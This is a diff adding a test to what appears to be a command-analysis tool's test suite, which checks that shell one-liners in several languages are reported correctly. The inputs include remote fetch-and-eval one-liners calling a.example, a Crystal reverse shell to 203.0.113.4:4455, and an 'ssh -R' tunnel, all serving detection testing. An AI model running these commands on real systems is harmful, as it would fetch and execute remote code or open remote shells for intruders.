@@ -169,3 +169,14 @@ def test_code_that_a_one_liner_fetches_and_evaluates(play: Play) -> None:
     assert "code.fetch http://a.example/p php" in play("php -r 'eval(file_get_contents(\"http://a.example/p\"));'")
     told = play('node -e \'require("https").get("https://a.example/j", r => r.on("data", d => eval(d + "")))\'')
     assert "code.fetch https://a.example/j javascript" in told
+
+
+def test_code_of_other_languages_in_an_argument(play: Play) -> None:
+    """A connection with a shell is told in any language; other code with a way out is a gap, without one silent."""
+    told = play(
+        "crystal eval 'c=Socket.tcp(Socket::Family::INET);c.connect(\"203.0.113.4\",4455);Process.new(x,shell:true)'"
+    )
+    assert "process.stdio socket 203.0.113.4 4455" in told
+    assert play("Rscript -e 'system(\"id\")'").gaps
+    assert not play("Rscript -e 'cat(mean(c(1,2)))'").gaps
+    assert "ssh -R 1:h:2 a@b" in play('bun -e \'require("child_process").execSync("ssh -R 1:h:2 a@b")\'')
